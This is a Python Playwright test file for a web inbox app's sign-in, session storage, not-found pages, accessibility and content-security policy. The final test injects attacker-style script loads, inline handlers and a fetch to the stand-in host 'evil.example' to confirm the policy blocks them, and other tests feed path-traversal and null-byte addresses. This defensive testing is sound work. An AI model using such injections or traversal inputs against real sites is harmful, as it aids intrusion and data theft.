"""The way into the inbox, in a real browser."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from local.stack import Stack
from tests.support import browser as browsers
from tests.support.inbox_app import PHONE, WIDE, InboxBrowser, Theme

browsers.require()


@pytest.mark.parametrize("name", ["ann", "ben"])
def test_people_sign_in_by_redirect_and_come_to_the_app(stack: Stack, inbox: InboxBrowser, name: str) -> None:
    person = {"ann": stack.people.admin, "ben": stack.people.limited}[name]
    with inbox.page(person) as app:
        expect(app.page.get_by_role("navigation", name="Sections")).to_be_visible()
        assert app.page.url == f"{stack.url}/inbox/#/"
        # The session is a cookie that no script reads, and nothing else of it is stored.
        assert app.page.evaluate("[document.cookie, localStorage.length, sessionStorage.length]") == ["", 0, 0]


def test_whoever_is_not_signed_in_sees_the_way_in(stack: Stack, inbox: InboxBrowser) -> None:
    with inbox.page(None) as app:
        expect(app.page.get_by_role("heading", name="Sign in to Partyline")).to_be_visible()
        app.tab_to("Sign in", role="link")
        app.press("Enter")
        app.page.wait_for_url(f"{stack.url}/oauth2/authorize?**")
        # Of the provider's page nothing is ours to answer for.
        app.permit(f"{stack.url}/favicon.ico", "/oauth2/", "/login")


@pytest.mark.parametrize("address", ["/contacts/..", "/contacts/%00", "/c/..%2fUsers", "/nowhere"])
def test_an_address_that_is_none_asks_for_nothing_and_breaks_nothing(
    stack: Stack, inbox: InboxBrowser, address: str
) -> None:
    with inbox.page(stack.people.admin) as app:
        asked: list[str] = []
        app.page.on("request", lambda one: asked.append(one.url))
        app.go(address)
        expect(app.page.get_by_role("heading", name="Not found")).to_be_visible()
        assert [url for url in asked if ".." in url or url.endswith("/")] == []
        app.look()
        app.page.get_by_role("link", name="Back to the inbox").click()
        expect(app.page.get_by_role("heading", name="Inbox", exact=True)).to_be_visible()


def test_a_page_out_of_the_browsers_memory_is_loaded_anew(stack: Stack, inbox: InboxBrowser) -> None:
    with inbox.page(stack.people.admin) as app:
        app.page.evaluate("window.isOld = true")
        with app.page.expect_navigation():
            app.page.evaluate("dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true }))")
        expect(app.page.get_by_role("navigation", name="Sections")).to_be_visible()
        assert app.page.evaluate("window.isOld") is None


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [WIDE, PHONE])
def test_the_sign_in_is_accessible(inbox: InboxBrowser, width: int, theme: Theme) -> None:
    with inbox.page(None, width=width, theme=theme) as app:
        expect(app.page.get_by_role("link", name="Sign in")).to_be_visible()
        app.check_accessibility()
        app.check_widths()


def test_the_policy_refuses_what_an_attacker_would_put_into_the_page(stack: Stack, inbox: InboxBrowser) -> None:
    with inbox.page(stack.people.admin) as app:
        tried = """
        (other) => {
          const refused = [];
          const attempt = (name, work) => { try { work(); } catch (error) { refused.push(name); } };
          attempt("innerHTML", () => { document.createElement("p").innerHTML = "<b>text</b>"; });
          attempt("policy", () => { trustedTypes.createPolicy("other", { createHTML: (text) => text }); });
          const script = document.createElement("script");
          attempt("script", () => { script.src = `${other}/evil.js`; });
          const handler = document.createElement("div");
          attempt("handler", () => { handler.setAttribute("onclick", "window.evil = 1"); });
          handler.click();
          const image = document.createElement("img");
          image.src = `${other}/image.png`;
          return fetch(`${other}/read`).then(() => refused, () => [...refused, "fetch"]);
        }
        """
        refused = app.page.evaluate(tried, "https://evil.example")
        assert refused == ["innerHTML", "policy", "script", "handler", "fetch"]
        assert app.page.evaluate("window.evil") is None
        assert any("img-src" in one or "image" in one for one in app.complaints)
        app.complaints.clear()
